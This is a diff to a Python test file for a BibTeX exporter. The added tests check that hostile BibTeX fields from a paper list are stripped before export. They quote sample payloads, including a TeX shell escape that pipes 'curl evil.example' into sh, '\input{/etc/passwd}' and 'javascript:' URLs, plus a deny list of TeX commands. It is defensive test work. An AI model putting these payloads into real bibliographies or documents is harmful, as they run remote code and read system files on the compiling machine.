@@ -1,5 +1,6 @@
-"""BibTeX: OpenReview's entry when the index has one, else a correct @inproceedings; every export is read back by
-bibtexparser (and its titles and authors by pylatexenc, as LaTeX would print them)."""
+"""BibTeX: a correct @inproceedings written from the index's fields (OpenReview's entry lends only a safe key,
+booktitle and year, never its text); every export is read back by bibtexparser (and its titles and authors by
+pylatexenc, as LaTeX would print them)."""
 
 from __future__ import annotations
 
@@ -113,13 +114,58 @@ def test_many_clashes_and_a_suffix_that_is_another_papers_key() -> None:
     ]
 
 
-def test_openreviews_entry_is_used_as_it_is_and_rekeyed_only_on_a_clash(papers: Papers) -> None:
+def test_openreviews_entry_lends_its_key_and_booktitle_and_is_rekeyed_only_on_a_clash(papers: Papers) -> None:
     tok, revisited = by_source(papers, "hostile02", "hostile03")
     tok = {**tok, "bibtex": OPENREVIEW_ENTRY}
-    assert bibtex.bibliography([tok]) == OPENREVIEW_ENTRY + "\n\n"
+    assert (
+        bibtex.bibliography([tok])
+        == TOKSUITE_ENTRY.replace(
+            "Proceedings of the 43rd International Conference on Machine Learning",
+            "Forty-third International Conference on Machine Learning",
+        )
+        + "\n\n"
+    )
     entries = parse_bibtex(bibtex.bibliography([tok, revisited]))
     assert entries[0].fields["booktitle"] == "Forty-third International Conference on Machine Learning"
     assert sorted(e.key for e in entries) == ["smith2026toksuite", "smith2026toksuitea"]
+
+
+# A list's `bibtex` field that tries to run TeX, read files or link elsewhere (reproduced from issue 39).
+HOSTILE_ENTRIES = [
+    "@inproceedings{smith2026toksuite, title={\\input{/etc/passwd}}, author={Eve}, year={2026}, "
+    "booktitle={\\immediate\\write18{curl evil.example | sh}}, url={javascript:alert(1)}}",
+    "@misc{pwn, title={x}, note={\\input{/etc/passwd}}, howpublished={\\url{javascript:alert(1)}}, year=2026}",
+    "@inproceedings{a, booktitle={{\\catcode`\\^^M=13}Proceedings}, year={20\\jobname}}",
+    '@inproceedings{b, booktitle="Proc $\\def\\x{1}$", year={2026}}',
+    "@inproceedings{c\\input, booktitle={Plain}}",
+    "@inproceedings{d, booktitle={javascript:alert(1)} # {x}}",
+]
+
+
+@pytest.mark.parametrize("hostile", HOSTILE_ENTRIES)
+def test_a_hostile_entry_never_reaches_the_file(papers: Papers, hostile: str) -> None:
+    (tok,) = by_source(papers, "hostile02")
+    text = bibtex.bibliography([{**tok, "bibtex": hostile}])
+    for bad in ("\\input", "\\immediate", "\\write18", "javascript:", "\\url", "\\catcode", "\\def", "\\jobname"):
+        assert bad not in text
+    (entry,) = parse_bibtex(text)
+    assert entry.title == "TokSuite: Measuring Tokenizer Robustness in LLMs"
+    assert entry.authors == ["Jane Smith", "Ada Lovelace"]
+    assert set(entry.fields) == {"title", "author", "booktitle", "year", "url"}  # nothing of the list's own
+    assert entry.fields["url"] == "https://openreview.net/forum?id=hostile_02"
+    assert entry.fields["booktitle"] == "Proceedings of the 43rd International Conference on Machine Learning"
+
+
+def test_only_a_plain_key_booktitle_and_year_are_taken_from_an_entry(papers: Papers) -> None:
+    (tok,) = by_source(papers, "hostile02")
+    lent = '@InProceedings{ Lee:2026.x, booktitle = "The {ICML} 2026 Workshop on Trust", year = 2025, note={n} }'
+    (entry,) = parse_bibtex(bibtex.bibliography([{**tok, "year": None, "bibtex": lent}]))
+    assert (entry.key, entry.fields["booktitle"], entry.fields["year"]) == (
+        "Lee:2026.x",
+        "The ICML 2026 Workshop on Trust",
+        "2025",
+    )
+    assert "note" not in entry.fields
 
 
 @pytest.mark.parametrize(
